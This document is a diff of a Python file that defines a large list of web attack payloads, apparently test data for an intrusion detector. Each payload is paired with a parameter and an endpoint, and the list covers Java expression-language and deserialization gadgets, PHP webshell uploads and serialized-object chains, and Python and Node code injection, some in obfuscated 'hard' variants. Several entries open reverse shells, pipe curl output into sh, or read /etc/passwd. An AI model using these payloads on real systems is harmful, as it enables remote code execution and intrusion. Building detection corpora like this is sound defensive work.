-      field="upload", fctype="text/plain", fcontent="test\n", ep="/struts2-showcase/fileupload/doUpload.action"),
-    A('<linked-hash-set>\n  <dynamic-proxy>\n    <interface>java.lang.Comparable</interface>\n    <handler class="java.beans.EventHandler">\n'
-      '      <target class="java.lang.ProcessBuilder">\n        <command>\n          <string>curl</string>\n          <string>http://203.0.113.31/x</string>\n'
-      '        </command>\n      </target>\n      <action>start</action>\n    </handler>\n  </dynamic-proxy>\n</linked-hash-set>\n',
-      "xml", whole=True, ep="/api/v1/sync", ctype="application/xml"),
-    A("redirect:${#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'id'})).start()}", "query_key", kval=None, ep="/login.action"),
+    A(
+        "${script:javascript:java.lang.Runtime.getRuntime().exec('touch /tmp/t4s')}",
+        "query",
+        param="search",
+        ep="/api/catalog/lookup",
+    ),
+    A(
+        '["org.apache.xbean.propertyeditor.JndiConverter",{"asText":"ldap://198.51.100.7:1389/obj"}]',
+        "json",
+        jobj=True,
+        param="converter",
+        ep="/api/v1/settings",
+    ),
+    A(
+        '!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: "rmi://203.0.113.8:1099/Obj", autoCommit: true}',
+        "json",
+        param="yaml",
+        ep="/api/v2/config/validate",
+    ),
+    A(
+        '["org.springframework.context.support.FileSystemXmlApplicationContext","http://203.0.113.77/beans.xml"]',
+        "json",
+        jobj=True,
+        param="payload",
+        ep="/api/events",
+    ),
+    A(
+        "CREATE ALIAS EXEC AS CONCAT('void e(String c) throws java.io.IOException {Runtime.getRuntime().exec(c);}');CALL EXEC('curl 198.51.100.3');",
+        "json",
+        ep="/actuator/env",
+        doc={"name": "spring.datasource.hikari.connection-test-query", "value": MARK},
+    ),
+    A(
+        "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-Check',1337*1337)}.b",
+        "multipart",
+        mp="filename",
+        field="upload",
+        fctype="text/plain",
+        fcontent="test\n",
+        ep="/struts2-showcase/fileupload/doUpload.action",
+    ),
+    A(
+        '<linked-hash-set>\n  <dynamic-proxy>\n    <interface>java.lang.Comparable</interface>\n    <handler class="java.beans.EventHandler">\n'
+        '      <target class="java.lang.ProcessBuilder">\n        <command>\n          <string>curl</string>\n          <string>http://203.0.113.31/x</string>\n'
+        "        </command>\n      </target>\n      <action>start</action>\n    </handler>\n  </dynamic-proxy>\n</linked-hash-set>\n",
+        "xml",
+        whole=True,
+        ep="/api/v1/sync",
+        ctype="application/xml",
+    ),
+    A(
+        "redirect:${#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'id'})).start()}",
+        "query_key",
+        kval=None,
+        ep="/login.action",
+    ),
     # ---- hard
-    A("%{(#r=@java.lang.Class@forName('java.lang.Run'+'time')).(#m=#r.getMethod('getRu'+'ntime')).(#m.invoke(null).exec('id'))}", "query", 1,
-      param="redirectUrl", ep="/index.action"),
-    A("T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character).toString(105).concat(T(java.lang.Character).toString(100)))", "json", 1,
-      param="sortExpression", ep="/api/v1/reports"),
-    A("''.class.forName('java.lang.Runtime').getMethod('exec',''.class).invoke(''.class.forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')",
-      "form", 1, param="filter"),
-    A("${''['class'].forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}", "query", 1, param="label"),
-    A('${ "" . getClass ( )\n   . forName ( "java.lang.Process" + "Builder" )\n\t. getConstructors ( ) [ 0 ] }', "form", 1, param="comment",
-      ep="/cms/page/preview"),
-    A("%25%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%27id%27%29%7D", "query", 1, param="actionName", ep="/showcase.action"),
-    A("#{new javax.script.ScriptEngineManager().getEngineByName('nashorn').eval('\\u006a\\u0061\\u0076\\u0061.lang.Runtime.getRuntime().exec(\"id\")')}",
-      "json", 1, param="title", deep=3),
+    A(
+        "%{(#r=@java.lang.Class@forName('java.lang.Run'+'time')).(#m=#r.getMethod('getRu'+'ntime')).(#m.invoke(null).exec('id'))}",
+        "query",
+        1,
+        param="redirectUrl",
+        ep="/index.action",
+    ),
+    A(
+        "T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character).toString(105).concat(T(java.lang.Character).toString(100)))",
+        "json",
+        1,
+        param="sortExpression",
+        ep="/api/v1/reports",
+    ),
+    A(
+        "''.class.forName('java.lang.Runtime').getMethod('exec',''.class).invoke(''.class.forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')",
+        "form",
+        1,
+        param="filter",
+    ),
+    A(
+        "${''['class'].forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
+        "query",
+        1,
+        param="label",
+    ),
+    A(
+        '${ "" . getClass ( )\n   . forName ( "java.lang.Process" + "Builder" )\n\t. getConstructors ( ) [ 0 ] }',
+        "form",
+        1,
+        param="comment",
+        ep="/cms/page/preview",
+    ),
+    A(
+        "%25%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%27id%27%29%7D",
+        "query",
+        1,
+        param="actionName",
+        ep="/showcase.action",
+    ),
+    A(
+        "#{new javax.script.ScriptEngineManager().getEngineByName('nashorn').eval('\\u006a\\u0061\\u0076\\u0061.lang.Runtime.getRuntime().exec(\"id\")')}",
+        "json",
+        1,
+        param="title",
+        deep=3,
+    ),
     A(_ser3, "json", 1, param="viewState", ep="/api/session/restore"),
     A(_ser4, "form", 1, param="state", ep="/portal/resume"),
-    A('<!-- sync -->\n<sorted-set>\n  <string>foo</string>\n  <dynamic-proxy><!-- c -->\n    <interface>java.lang.Comparable</interface>\n'
-      '    <handler   class = "java.beans.EventHandler" >\n      <target class="java.lang.ProcessBuilder"><command>\n'
-      '        <string>b&#97;sh</string><string>-c</string><string>nc 203.0.113.5 4444 -e /bin/sh</string>\n      </command></target>\n'
-      '      <action>st<!-- x -->art</action>\n    </handler>\n  </dynamic-proxy>\n</sorted-set>\n',
-      "xml", 1, whole=True, ep="/api/v1/sync", ctype="text/xml"),
-    A('{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://198.51.100.66:1099/Exp","autoCommit":true}', "json", 1, jobj=True,
-      param="meta", rj=True),
-    A('{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"ldap://203.0.113.12:1389/L","autoCommit":true}', "json", 1, jobj=True,
-      param="attributes"),
-    A('{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://198.51.100.71:389/Obj","autoCommit":true}}',
-      "json", 1, jobj=True, param="ext", deep=2),
+    A(
+        "<!-- sync -->\n<sorted-set>\n  <string>foo</string>\n  <dynamic-proxy><!-- c -->\n    <interface>java.lang.Comparable</interface>\n"
+        '    <handler   class = "java.beans.EventHandler" >\n      <target class="java.lang.ProcessBuilder"><command>\n'
+        "        <string>b&#97;sh</string><string>-c</string><string>nc 203.0.113.5 4444 -e /bin/sh</string>\n      </command></target>\n"
+        "      <action>st<!-- x -->art</action>\n    </handler>\n  </dynamic-proxy>\n</sorted-set>\n",
+        "xml",
+        1,
+        whole=True,
+        ep="/api/v1/sync",
+        ctype="text/xml",
+    ),
+    A(
+        '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://198.51.100.66:1099/Exp","autoCommit":true}',
+        "json",
+        1,
+        jobj=True,
+        param="meta",
+        rj=True,
+    ),
+    A(
+        '{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"ldap://203.0.113.12:1389/L","autoCommit":true}',
+        "json",
+        1,
+        jobj=True,
+        param="attributes",
+    ),
+    A(
+        '{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://198.51.100.71:389/Obj","autoCommit":true}}',
+        "json",
+        1,
+        jobj=True,
+        param="ext",
+        deep=2,
+    ),
     A("def c = \"${'i'+'d'}\"; println c.execute().text", "json", 1, param="script", ep="/api/jobs/dry-run"),
-    A('!<tag:yaml.org,2002:javax.script.ScriptEngineManager> [!<tag:yaml.org,2002:java.net.URLClassLoader> [[!<tag:yaml.org,2002:java.net.URL> ["http://198.51.100.4/p.jar"]]]]',
-      "multipart", 1, mp="file", fname="values.yaml", fctype="text/yaml", field="file", ep="/api/charts/upload"),
-    A('${Class.forName("com.opensymphony.webwork.ServletActionContext").getMethod("getResponse",null).invoke(null,null).setHeader("X-R",Class.forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("nashorn").eval("\\u006a\\u0061va.lang.Runtime.getRuntime().exec(\'id\')"))}',
-      "path", 1, pre="/", suf="/", ep="/"),
-    A("('\\u0023_memberAccess[\\'allowStaticMethodAccess\\']')(meh)=true", "query_key", 1, kval=None, ep="/user/login.action"),
-    A("T (java.lang.Runtime)\t.getRuntime ( )\t.exec (new String[]{\"sh\",\"-c\",\"id\"})", "header", 1,
-      hdr="spring.cloud.function.routing-expression", method="POST", ep="/functionRouter", body=("text/plain", "ping")),
-    A('{"@type":"org.apache.shiro.jndi.JndiObjectFactory","resourceName":"ldap://198.51.100.12:1389/shiro"}', "json", 1, param="payload",
-      ep="/api/v1/webhooks/test"),
-    A('<java class="java.beans.XMLDecoder">\n <void class="java.lang.Runtime" method="getRuntime">\n  <void method="&#101;&#x78;ec">\n'
-      '   <string>touch /tmp/xd</string>\n  </void>\n </void>\n</java>\n', "xml", 1, whole=True, ep="/api/legacy/bean", ctype="application/xml"),
+    A(
+        '!<tag:yaml.org,2002:javax.script.ScriptEngineManager> [!<tag:yaml.org,2002:java.net.URLClassLoader> [[!<tag:yaml.org,2002:java.net.URL> ["http://198.51.100.4/p.jar"]]]]',
+        "multipart",
+        1,
+        mp="file",
+        fname="values.yaml",
+        fctype="text/yaml",
+        field="file",
+        ep="/api/charts/upload",
+    ),
+    A(
+        '${Class.forName("com.opensymphony.webwork.ServletActionContext").getMethod("getResponse",null).invoke(null,null).setHeader("X-R",Class.forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("nashorn").eval("\\u006a\\u0061va.lang.Runtime.getRuntime().exec(\'id\')"))}',
+        "path",
+        1,
+        pre="/",
+        suf="/",
+        ep="/",
+    ),
+    A(
+        "('\\u0023_memberAccess[\\'allowStaticMethodAccess\\']')(meh)=true",
+        "query_key",
+        1,
+        kval=None,
+        ep="/user/login.action",
+    ),
+    A(
+        'T (java.lang.Runtime)\t.getRuntime ( )\t.exec (new String[]{"sh","-c","id"})',
+        "header",
+        1,
+        hdr="spring.cloud.function.routing-expression",
+        method="POST",
+        ep="/functionRouter",
+        body=("text/plain", "ping"),
+    ),
+    A(
+        '{"@type":"org.apache.shiro.jndi.JndiObjectFactory","resourceName":"ldap://198.51.100.12:1389/shiro"}',
+        "json",
+        1,
+        param="payload",
+        ep="/api/v1/webhooks/test",
+    ),
+    A(
+        '<java class="java.beans.XMLDecoder">\n <void class="java.lang.Runtime" method="getRuntime">\n  <void method="&#101;&#x78;ec">\n'
+        "   <string>touch /tmp/xd</string>\n  </void>\n </void>\n</java>\n",
+        "xml",
+        1,
+        whole=True,
+        ep="/api/legacy/bean",
+        ctype="application/xml",
+    ),
 ]
 
 # ---------------------------------------------------------------- php
 CTX["php_injection"] = dict(
-    eps=["/index.php", "/admin/tools.php", "/modules/export.php", "/api/eval", "/profile/avatar", "/include.php", "/blog/wp-admin/admin-ajax.php",
-         "/shop/product.php", "/app/render.php", "/cgi-bin/report.php"],
-    params=["page", "file", "tpl", "cmd", "lang", "module", "code", "name", "action", "view"])
+    eps=[
+        "/index.php",
+        "/admin/tools.php",
+        "/modules/export.php",
+        "/api/eval",
+        "/profile/avatar",
+        "/include.php",
+        "/blog/wp-admin/admin-ajax.php",
+        "/shop/product.php",
+        "/app/render.php",
+        "/cgi-bin/report.php",
+    ],
+    params=["page", "file", "tpl", "cmd", "lang", "module", "code", "name", "action", "view"],
+)
 
 
 def _php_xor(word):
@@ -1080,76 +1553,231 @@ _gz = zlib.compressobj(9, zlib.DEFLATED, -15)
 _gzphp = base64.b64encode(_gz.compress(b"system('cat /etc/passwd');") + _gz.flush()).decode()
 
 PHP = [
-    A("<?php system($_GET['c']); ?>\n", "multipart", mp="file", fname="avatar.php", fctype="application/x-php", field="avatar", ep="/profile/avatar"),
-    A("GIF89a;\n<?php echo shell_exec($_REQUEST['cmd']); ?>\n", "multipart", mp="file", fname="banner.gif.phtml", fctype="image/gif",
-      field="image", ep="/admin/media/upload"),
-    A("/index/\\think\\app/invokefunction", "query", ep="/index.php",
-      qs=[("s", MARK), ("function", "call_user_func_array"), ("vars[0]", "system"), ("vars[1][]", "id")]),
-    A("mail[#post_render][]", "form", key=True, ep="/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax",
-      fields=[("form_id", "user_register_form"), ("_drupal_ajax", "1"), ("mail[#type]", "markup"), (KMARK, "exec"), ("mail[#markup]", "id")]),
-    A("echo shell_exec('id'); exit;", "form", ep="/ajax/render/widget_php",
-      fields=[("routestring", "ajax/render/widget_php"), ("widgetConfig[code]", MARK)]),
-    A("-d allow_url_include=1 -d auto_prepend_file=data://text/plain;base64," + base64.b64encode(b"<?php phpinfo(); ?>").decode(), "query_key",
-      kval=None, ep="/cgi-bin/php-cgi", plus=True),
-    A('passthru("cat /etc/passwd")', "query", ep="/tools/regex.php", qs=[("pattern", "/.*/e"), ("replace", MARK), ("subject", "x")]),
+    A(
+        "<?php system($_GET['c']); ?>\n",
+        "multipart",
+        mp="file",
+        fname="avatar.php",
+        fctype="application/x-php",
+        field="avatar",
+        ep="/profile/avatar",
+    ),
+    A(
+        "GIF89a;\n<?php echo shell_exec($_REQUEST['cmd']); ?>\n",
+        "multipart",
+        mp="file",
+        fname="banner.gif.phtml",
+        fctype="image/gif",
+        field="image",
+        ep="/admin/media/upload",
+    ),
+    A(
+        "/index/\\think\\app/invokefunction",
+        "query",
+        ep="/index.php",
+        qs=[("s", MARK), ("function", "call_user_func_array"), ("vars[0]", "system"), ("vars[1][]", "id")],
+    ),
+    A(
+        "mail[#post_render][]",
+        "form",
+        key=True,
+        ep="/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax",
+        fields=[
+            ("form_id", "user_register_form"),
+            ("_drupal_ajax", "1"),
+            ("mail[#type]", "markup"),
+            (KMARK, "exec"),
+            ("mail[#markup]", "id"),
+        ],
+    ),
+    A(
+        "echo shell_exec('id'); exit;",
+        "form",
+        ep="/ajax/render/widget_php",
+        fields=[("routestring", "ajax/render/widget_php"), ("widgetConfig[code]", MARK)],
+    ),
+    A(
+        "-d allow_url_include=1 -d auto_prepend_file=data://text/plain;base64,"
+        + base64.b64encode(b"<?php phpinfo(); ?>").decode(),
+        "query_key",
+        kval=None,
+        ep="/cgi-bin/php-cgi",
+        plus=True,
+    ),
+    A(
+        'passthru("cat /etc/passwd")',
+        "query",
+        ep="/tools/regex.php",
+        qs=[("pattern", "/.*/e"), ("replace", MARK), ("subject", "x")],
+    ),
     A("${@print(md5(31337))}", "query", param="name"),
     A("{${system('id')}}", "form", param="title", ep="/blog/post/save.php"),
-    A('O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{s:6:"socket";O:29:"Monolog\\Handler\\BufferHandler":7:{s:10:"\x00*\x00handler";r:2;'
-      's:13:"\x00*\x00bufferSize";i:-1;s:9:"\x00*\x00buffer";a:1:{i:0;a:2:{i:0;s:2:"id";s:5:"level";N;}}s:8:"\x00*\x00level";N;'
-      's:14:"\x00*\x00initialized";b:1;s:14:"\x00*\x00bufferLimit";i:-1;s:13:"\x00*\x00processors";a:2:{i:0;s:7:"current";i:1;s:6:"system";}}}',
-      "cookie", ck="cart", ep="/shop/cart.php"),
-    A('O:31:"GuzzleHttp\\Cookie\\FileCookieJar":2:{s:41:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00filename";s:27:"/var/www/html/public/sh.php";'
-      's:36:"\x00GuzzleHttp\\Cookie\\CookieJar\x00cookies";a:1:{i:0;O:27:"GuzzleHttp\\Cookie\\SetCookie":1:{s:33:"\x00GuzzleHttp\\Cookie\\SetCookie\x00data";'
-      'a:3:{s:7:"Expires";i:1;s:7:"Discard";b:0;s:5:"Value";s:29:"<?php system($_GET[\'x\']); ?>";}}}}',
-      "form", param="data", ep="/api/import.php"),
+    A(
+        'O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{s:6:"socket";O:29:"Monolog\\Handler\\BufferHandler":7:{s:10:"\x00*\x00handler";r:2;'
+        's:13:"\x00*\x00bufferSize";i:-1;s:9:"\x00*\x00buffer";a:1:{i:0;a:2:{i:0;s:2:"id";s:5:"level";N;}}s:8:"\x00*\x00level";N;'
+        's:14:"\x00*\x00initialized";b:1;s:14:"\x00*\x00bufferLimit";i:-1;s:13:"\x00*\x00processors";a:2:{i:0;s:7:"current";i:1;s:6:"system";}}}',
+        "cookie",
+        ck="cart",
+        ep="/shop/cart.php",
+    ),
+    A(
+        'O:31:"GuzzleHttp\\Cookie\\FileCookieJar":2:{s:41:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00filename";s:27:"/var/www/html/public/sh.php";'
+        's:36:"\x00GuzzleHttp\\Cookie\\CookieJar\x00cookies";a:1:{i:0;O:27:"GuzzleHttp\\Cookie\\SetCookie":1:{s:33:"\x00GuzzleHttp\\Cookie\\SetCookie\x00data";'
+        'a:3:{s:7:"Expires";i:1;s:7:"Discard";b:0;s:5:"Value";s:29:"<?php system($_GET[\'x\']); ?>";}}}}',
+        "form",
+        param="data",
+        ep="/api/import.php",
+    ),
     A("phar://./uploads/avatar_9931.jpg/test.txt", "query", param="file", ep="/image/resize.php"),
     A("php://filter/convert.base64-encode/resource=../config/database.php", "query", param="page"),
-    A("data://text/plain;base64," + base64.b64encode(b"<?php system('uname -a'); ?>").decode(), "query", param="file", ep="/include.php"),
+    A(
+        "data://text/plain;base64," + base64.b64encode(b"<?php system('uname -a'); ?>").decode(),
+        "query",
+        param="file",
+        ep="/include.php",
+    ),
     A("expect://ls -la /var/www", "query", param="lang"),
-    A("phar://../storage/logs/laravel.log/test.txt", "json", ep="/_ignition/execute-solution",
-      doc={"solution": "Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution", "parameters": {"variableName": "username", "viewFile": MARK}}),
+    A(
+        "phar://../storage/logs/laravel.log/test.txt",
+        "json",
+        ep="/_ignition/execute-solution",
+        doc={
+            "solution": "Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution",
+            "parameters": {"variableName": "username", "viewFile": MARK},
+        },
+    ),
     A("');}system('id');/*", "form", param="sort", ep="/admin/tools.php"),
     A("1);system('whoami');//", "json", param="calc", ep="/api/eval"),
     A('array_map("system",array("ls -la /var/www"))', "json", param="formula", ep="/api/pricing/rules"),
-    A('AddType application/x-httpd-php .jpg\nphp_value auto_prepend_file "php://input"\n', "multipart", mp="file", fname=".htaccess",
-      fctype="text/plain", field="file", ep="/filemanager/upload.php"),
-    A("<?= `$_GET[0]` ?>", "multipart", mp="file", fname="thumb.phtml", fctype="image/jpeg", field="thumbnail", ep="/admin/media/upload"),
-    A("<?php file_put_contents('wp-content/uploads/cache.php', base64_decode($_POST['d'])); ?>", "form", ep="/wp-admin/theme-editor.php",
-      fields=[("_wpnonce", rand_hex(10)), ("_wp_http_referer", "/wp-admin/theme-editor.php?file=404.php&theme=twentytwentyfour"),
-              ("newcontent", MARK), ("action", "update"), ("file", "404.php"), ("theme", "twentytwentyfour")]),
+    A(
+        'AddType application/x-httpd-php .jpg\nphp_value auto_prepend_file "php://input"\n',
+        "multipart",
+        mp="file",
+        fname=".htaccess",
+        fctype="text/plain",
+        field="file",
+        ep="/filemanager/upload.php",
+    ),
+    A(
+        "<?= `$_GET[0]` ?>",
+        "multipart",
+        mp="file",
+        fname="thumb.phtml",
+        fctype="image/jpeg",
+        field="thumbnail",
+        ep="/admin/media/upload",
+    ),
+    A(
+        "<?php file_put_contents('wp-content/uploads/cache.php', base64_decode($_POST['d'])); ?>",
+        "form",
+        ep="/wp-admin/theme-editor.php",
+        fields=[
+            ("_wpnonce", rand_hex(10)),
+            ("_wp_http_referer", "/wp-admin/theme-editor.php?file=404.php&theme=twentytwentyfour"),
+            ("newcontent", MARK),
+            ("action", "update"),
+            ("file", "404.php"),
+            ("theme", "twentytwentyfour"),
+        ],
+    ),
     A("@eval($_POST['z']);", "form", param="code"),
-    A("proc_open('id',array(1=>array('pipe','w')),$p);echo stream_get_contents($p[1]);", "json", param="snippet", deep=2),
+    A(
+        "proc_open('id',array(1=>array('pipe','w')),$p);echo stream_get_contents($p[1]);",
+        "json",
+        param="snippet",
+        deep=2,
+    ),
     A("system('uname -a');", "cookie", ck="debug_eval"),
     A("pcntl_exec('/bin/sh',['-c','id']);", "xml", param="expression", ep="/api/legacy/calc.php"),
-    A('<?php $s=fsockopen("203.0.113.5",4444);exec("/bin/sh -i <&3 >&3 2>&3"); ?>', "multipart", mp="file", fname="report.php",
-      fctype="application/octet-stream", field="attachment", ep="/support/ticket/attach"),
+    A(
+        '<?php $s=fsockopen("203.0.113.5",4444);exec("/bin/sh -i <&3 >&3 2>&3"); ?>',
+        "multipart",
+        mp="file",
+        fname="report.php",
+        fctype="application/octet-stream",
+        field="attachment",
+        ep="/support/ticket/attach",
+    ),
     A("php://input", "query", param="page", method="POST", body=("text/plain", "<?php system('id'); ?>")),
     A("highlight_file('/var/www/html/config.php');", "query", param="fn", ep="/debug/run.php"),
-    A('O:24:"GuzzleHttp\\Psr7\\FnStream":2:{s:33:"\x00GuzzleHttp\\Psr7\\FnStream\x00methods";a:1:{s:5:"close";s:7:"phpinfo";}s:9:"_fn_close";s:7:"phpinfo";}',
-      "json", param="session", ep="/api/session/import"),
+    A(
+        'O:24:"GuzzleHttp\\Psr7\\FnStream":2:{s:33:"\x00GuzzleHttp\\Psr7\\FnStream\x00methods";a:1:{s:5:"close";s:7:"phpinfo";}s:9:"_fn_close";s:7:"phpinfo";}',
+        "json",
+        param="session",
+        ep="/api/session/import",
+    ),
     # ---- hard
     A("('sys'.'tem')('id');", "query", 1, param="tpl"),
     A("$f='sys'.'tem';$f('cat /etc/passwd');", "form", 1, param="expr"),
     A("(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109))(chr(105).chr(100));", "json", 1, param="formula"),
     A("print `cat /etc/hostname`;", "query", 1, param="debug"),
-    A('${"_GET"}[0](${"_GET"}[1])', "query", 1, ep="/app/render.php", qs=[("view", MARK), ("0", "system"), ("1", "id")]),
+    A(
+        '${"_GET"}[0](${"_GET"}[1])',
+        "query",
+        1,
+        ep="/app/render.php",
+        qs=[("view", MARK), ("0", "system"), ("1", "id")],
+    ),
     A('("%s"^"%s")("%s"^"%s");' % (_xa, _xb, _xc, _xd), "form", 1, param="f"),
     A('eval(base64_decode("%s"));' % _b64php, "json", 1, param="custom_code", deep=5),
     A("assert(str_rot13('%s'));" % codecs.encode('system("id")', "rot13"), "cookie", 1, ck="pref"),
     A("eval(gzinflate(base64_decode('%s')));" % _gzphp, "multipart", 1, mp="field", param="snippet"),
-    A('<?php $x = "\\x73\\x79\\x73\\x74\\x65\\x6d"; $x("id"); ?>', "multipart", 1, mp="file", fname="cover.php7", fctype="image/png",
-      field="cover", ep="/admin/media/upload"),
-    A('<script language="php">system("id");</script>', "multipart", 1, mp="file", fname="readme.pht", fctype="text/plain", field="doc",
-      ep="/docs/upload"),
-    A("<?PhP SyStEm($_GeT['c']); ?>", "multipart", 1, mp="file", fname="x.PhAr", fctype="application/octet-stream", field="file"),
-    A("\u00add allow_url_include=1 \u00add auto_prepend_file=php://input", "query_key", 1, kval=None, ep="/php-cgi/php-cgi.exe",
-      method="POST", body=("text/plain", "<?php echo md5('cgi'); ?>"), plus=True),
-    A("php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|convert.iconv.CP1046.UTF32|"
-      "convert.iconv.L6.UCS-2|convert.iconv.UTF-16LE.T.61-8BIT|convert.iconv.865.UCS-4LE|convert.base64-decode|convert.base64-encode|"
-      "convert.iconv.UTF8.UTF7|convert.iconv.MAC.UTF16|convert.iconv.L8.UTF16|convert.base64-decode/resource=php://temp", "query", 1, param="file"),
+    A(
+        '<?php $x = "\\x73\\x79\\x73\\x74\\x65\\x6d"; $x("id"); ?>',
+        "multipart",
+        1,
+        mp="file",
+        fname="cover.php7",
+        fctype="image/png",
+        field="cover",
+        ep="/admin/media/upload",
+    ),
+    A(
+        '<script language="php">system("id");</script>',
+        "multipart",
+        1,
+        mp="file",
+        fname="readme.pht",
+        fctype="text/plain",
+        field="doc",
+        ep="/docs/upload",
+    ),
+    A(
+        "<?PhP SyStEm($_GeT['c']); ?>",
+        "multipart",
+        1,
+        mp="file",
+        fname="x.PhAr",
+        fctype="application/octet-stream",
+        field="file",
+    ),
+    A(
+        "\u00add allow_url_include=1 \u00add auto_prepend_file=php://input",
+        "query_key",
+        1,
+        kval=None,
+        ep="/php-cgi/php-cgi.exe",
+        method="POST",
+        body=("text/plain", "<?php echo md5('cgi'); ?>"),
+        plus=True,
+    ),
+    A(
+        "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|convert.iconv.CP1046.UTF32|"
+        "convert.iconv.L6.UCS-2|convert.iconv.UTF-16LE.T.61-8BIT|convert.iconv.865.UCS-4LE|convert.base64-decode|convert.base64-encode|"
+        "convert.iconv.UTF8.UTF7|convert.iconv.MAC.UTF16|convert.iconv.L8.UTF16|convert.base64-decode/resource=php://temp",
+        "query",
+        1,
+        param="file",
+    ),
     A("data:text/plain,<?php phpinfo();?>", "query", 1, param="inc"),
     A("PHP://FiLtEr/read=string.rot13/resource=index.php", "query", 1, param="page"),
-    A("compress.zlib://phar:///var/www/uploads/2026/12/a.gif/x", "json", 1, param="image_path", ep="/api/media/thumbnail"),
+    A(
+        "compress.zlib://phar:///var/www/uploads/2026/12/a.gif/x",
+        "json",
+        1,
+        param="image_path",
+        ep="/api/media/thumbnail",
+    ),
     A('O:+8:"Backdoor":1:{s:4:"code";s:10:"phpinfo();";}', "cookie", 1, ck="session_data"),
     A('C:11:"ArrayObject":45:{x:i:0;a:0:{};m:a:1:{s:1:"x";O:7:"Logger2":0:{}}}', "form", 1, param="cart"),
     A("{${eval(base64_decode($_SERVER[HTTP_X_C]))}}", "query", 1, param="name"),
@@ -1157,39 +1785,86 @@ PHP = [
 
 # ---------------------------------------------------------------- generic code injection
 CTX["code_injection"] = dict(
-    eps=["/api/calc", "/api/v1/transform", "/tools/evaluate", "/api/reports/formula", "/sandbox/run", "/api/v2/filters",
-         "/hooks/preview", "/admin/console", "/api/widgets/render", "/api/automation/rules"],
-    params=["expr", "formula", "code", "filter", "callback", "transform", "q", "value", "rule", "script"])
+    eps=[
+        "/api/calc",
+        "/api/v1/transform",
+        "/tools/evaluate",
+        "/api/reports/formula",
+        "/sandbox/run",
+        "/api/v2/filters",
+        "/hooks/preview",
+        "/admin/console",
+        "/api/widgets/render",
+        "/api/automation/rules",
+    ],
+    params=["expr", "formula", "code", "filter", "callback", "transform", "q", "value", "rule", "script"],
+)
 
 _pyhex = b"__import__('os').system('id')".hex()
-_pyb64 = base64.b64encode(b"import socket,os,pty;s=socket.socket();s.connect(('203.0.113.21',9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')").decode()
+_pyb64 = base64.b64encode(
+    b"import socket,os,pty;s=socket.socket();s.connect(('203.0.113.21',9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')"
+).decode()
 _pychr = ",".join(str(ord(c)) for c in "__import__('os').popen('id').read()")
 _jsb64 = base64.b64encode(b'require("child_process").execSync("id")').decode()
 _jschr = ",".join(str(ord(c)) for c in "require('child_process').execSync('uname -a')")
-_pickle2 = base64.b64encode(b"\x80\x02csubprocess\ncheck_output\nq\x00]q\x01(X\x02\x00\x00\x00idq\x02e\x85q\x03Rq\x04.").decode()
+_pickle2 = base64.b64encode(
+    b"\x80\x02csubprocess\ncheck_output\nq\x00]q\x01(X\x02\x00\x00\x00idq\x02e\x85q\x03Rq\x04."
+).decode()
 
 CODE = [
     A("__import__('os').system('id')", "query", param="expr"),
     A("eval(compile('import os;os.system(\"id\")','x','exec'))", "json", param="formula"),
     A("exec(\"import subprocess;subprocess.check_output(['cat','/etc/passwd'])\")", "form", param="code"),
     A(py_pickle_b64("curl http://203.0.113.40/p | sh"), "cookie", ck="prefs", ep="/dashboard"),
-    A('!!python/object/apply:os.system ["id"]\n', "multipart", mp="file", fname="config.yaml", fctype="application/x-yaml", field="config",
-      ep="/api/v1/projects/import"),
-    A('!!python/object/new:subprocess.check_output [["nc","-e","/bin/sh","198.51.100.2","9001"]]', "json", param="yaml", ep="/api/v2/pipelines/validate"),
+    A(
+        '!!python/object/apply:os.system ["id"]\n',
+        "multipart",
+        mp="file",
+        fname="config.yaml",
+        fctype="application/x-yaml",
+        field="config",
+        ep="/api/v1/projects/import",
+    ),
+    A(
+        '!!python/object/new:subprocess.check_output [["nc","-e","/bin/sh","198.51.100.2","9001"]]',
+        "json",
+        param="yaml",
+        ep="/api/v2/pipelines/validate",
+    ),
     A("require('child_process').execSync('id').toString()", "json", param="filter", deep=2),
     A("process.mainModule.require('child_process').exec('curl 203.0.113.7/n|sh')", "query", param="fn"),
-    A("this.constructor.constructor('return process')().mainModule.require('child_process').execSync('whoami')", "form", param="name"),
-    A("__proto__", "json_key", ep="/api/users/me/preferences",
-      doc={"profile": {"theme": "dark", KMARK: {"outputFunctionName": "x;process.mainModule.require('child_process').execSync('id');x"}}}),
+    A(
